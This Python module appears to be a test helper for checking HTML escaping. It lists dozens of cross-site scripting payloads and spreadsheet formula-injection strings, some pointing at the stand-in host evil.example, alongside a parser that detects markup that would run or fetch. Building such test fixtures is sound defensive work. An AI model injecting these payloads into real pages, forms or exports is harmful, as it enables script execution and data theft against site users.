"""Texts that people with bad intentions type, and a reader that finds what of them would run in a page."""

import re
from html.parser import HTMLParser
from typing import Any

# Each would call `xss()`, or fetch something from evil.example, where it is not told apart from markup of ours.
PAYLOADS = (
    "<script>xss()</script>",
    '"><script>xss()</script>',
    "'><script>xss()</script>",
    "</script><script>xss()</script>",
    "</textarea><script>xss()</script>",
    "</title><svg onload=xss()>",
    "</style><img src=x onerror=xss()>",
    "<img src=x onerror=xss()>",
    '"><img src=x onerror="xss()">',
    '" autofocus onfocus="xss()',
    "' onmouseover='xss()",
    "` onclick=xss()",
    "<svg onload=xss()>",
    "<svg><script>xss()</script></svg>",
    "<svg><animate onbegin=xss() attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:xss()"><text y="9">x</text></a></svg>',
    "<math><mtext></form><form><mglyph><style></math><img src onerror=xss()>",
    '<math href="javascript:xss()">x</math>',
    '<a href="javascript:xss()">x</a>',
    '<a href="jAvAsCrIpT&colon;xss()">x</a>',
    '<a href="java\tscript:xss()">x</a>',
    '<a href="&#x1;javascript:xss()">x</a>',
    '<a href="data:text/html,<script>xss()</script>">x</a>',
    '<a href="vbscript:xss()">x</a>',
    '<iframe src="javascript:xss()"></iframe>',
    '<iframe srcdoc="<script>xss()</script>"></iframe>',
    '<object data="javascript:xss()"></object>',
    '<embed src="//evil.example/x.swf">',
    '<base href="//evil.example/">',
    '<meta http-equiv="refresh" content="0;url=//evil.example/">',
    '<link rel="stylesheet" href="//evil.example/x.css">',
    "<style>@import '//evil.example/x.css';</style>",
    '<p style="background:url(//evil.example/x)">x</p>',
    '<img src="//evil.example/pixel.png">',
    '<video poster="//evil.example/x.png"><source onerror=xss()></video>',
    "<details open ontoggle=xss()>",
    "<body onload=xss()>",
    "<input onfocus=xss() autofocus>",
    '<form action="//evil.example/"><button>x</button></form>',
    '<button formaction="javascript:xss()">x</button>',
    "<noscript><p title=\"</noscript><img src=x onerror=xss()>\">",
    "<template><img src=x onerror=xss()></template>",
    "<!--><img src=x onerror=xss()>-->",
    "<![CDATA[><script>xss()</script>]]>",
    "<x/onclick=xss()>x</x>",
    "<scr<script>ipt>xss()</scr</script>ipt>",
    "%3Cscript%3Exss()%3C/script%3E",
    "&lt;script&gt;xss()&lt;/script&gt;",
    "\u003cscript\u003exss()\u003c/script\u003e",
    "{{ xss }}{% debug %}${xss()}#{xss()}",
    "＜script＞xss()＜/script＞",
    "<ScRiPt\x0c>xss()</sCrIpT>",
)  # fmt: skip
# Where a spreadsheet begins to calculate.
FORMULAS = ("=1+1", "+1", "-1+1", "@SUM(1)", "\t=1", "\r=1", "＝1+1", "＋1", "－1", "＠SUM(1)", '=HYPERLINK("http://evil.example")')

ADDRESSES = {"href", "src", "srcset", "action", "formaction", "xlink:href", "data", "poster", "background", "ping", "cite", "manifest"}
FETCHED = ADDRESSES - {"href", "cite"}
NEVER = {"iframe", "object", "embed", "base", "applet", "frame", "math", "noembed", "plaintext", "xmp", "marquee"}
RUNS = re.compile(r"^(?:javascript|vbscript|livescript|data:(?!image/))", re.I)
DATA = {"application/json", "application/ld+json", "importmap"}


class Reader(HTMLParser):
    """Collects in `found` what of a page runs or fetches and is not ours."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self.inside = ""

    def handle_starttag(self, tag: str, attributes: Any) -> None:
        said = f"<{tag} {dict(attributes)}>"
        if tag in NEVER:
            self.found.append(said)
        for name, value in attributes:
            value = re.sub(r"[\x00-\x20\x7f]", "", value or "")
            if (
                name.startswith("on")
                or name in {"srcdoc", "style"}
                or (name in ADDRESSES and RUNS.match(value))
                or (name in FETCHED and "evil.example" in value)
                or (tag in {"meta", "link"} and "evil.example" in value and name in {"href", "content"} and tag == "link")
                or (tag == "meta" and name == "http-equiv" and value.lower() == "refresh")
            ):
                self.found.append(said)
        if tag in {"script", "style"}:
            self.inside = "" if dict(attributes).get("type") in DATA else tag

    def handle_startendtag(self, tag: str, attributes: Any) -> None:
        self.handle_starttag(tag, attributes)

    def handle_data(self, data: str) -> None:
        if self.inside and ("xss" in data or "evil.example" in data):
            self.found.append(f"{self.inside}: {data[:80]}")

    def handle_endtag(self, tag: str) -> None:
        if tag == self.inside:
            self.inside = ""


def what_runs(html: str) -> list[str]:
    reader = Reader()
    reader.feed(html)
    reader.close()
    return reader.found
